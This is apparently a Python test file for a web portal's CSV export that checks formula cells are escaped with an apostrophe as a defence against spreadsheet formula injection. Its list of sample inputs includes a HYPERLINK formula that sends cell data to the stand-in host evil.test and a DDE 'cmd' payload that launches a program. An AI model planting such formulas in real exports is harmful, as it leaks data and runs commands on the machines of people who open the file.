"""The one CSV writer: formula cells are marked as text, numbers are not, and `restore` undoes the mark."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal import csvfile

FORMULAS = [
    '=HYPERLINK("https://evil.test/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_it_marks_a_formula_cell_as_text(value):
    assert csvfile.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["-2", "-2.5", "0", "87.50", "LAW-101", "Contracts I", "", "S0001"])
def test_it_leaves_numbers_and_plain_text_alone(value):
    assert csvfile.neutralise(value) == value


@pytest.mark.parametrize("value", [7, -3, Decimal("-1.5"), None, 2.5])
def test_it_leaves_non_text_cells_alone(value):
    assert csvfile.neutralise(value) is value


def test_a_cell_starting_with_an_apostrophe_gets_another_so_it_reads_back_as_it_was():
    assert csvfile.neutralise("'=1") == "''=1"
    assert csvfile.restore("''=1") == "'=1"
    assert csvfile.restore("'Til Death") == "'Til Death"  # no mark of ours: kept as typed


def test_the_writer_marks_every_cell_of_a_row():
    out = io.StringIO()
    csvfile.writer(out).writerow([1, "=A1", "-2", "+x", "ok"])

    assert out.getvalue() == "1,'=A1,-2,'+x,ok\r\n"


@given(st.text(max_size=40))
def test_restore_undoes_neutralise(value):
    assert csvfile.restore(csvfile.neutralise(value)) == value


@given(st.lists(st.text(max_size=20), min_size=1, max_size=6))
def test_no_written_cell_starts_a_formula_and_every_cell_reads_back(row):
    out = io.StringIO()
    csvfile.writer(out).writerow(row)

    read = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    for cell in read:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")) and (
            not cell.startswith("-") or csvfile.NUMBER.fullmatch(cell)
        )
    assert [csvfile.restore(cell) for cell in read] == row
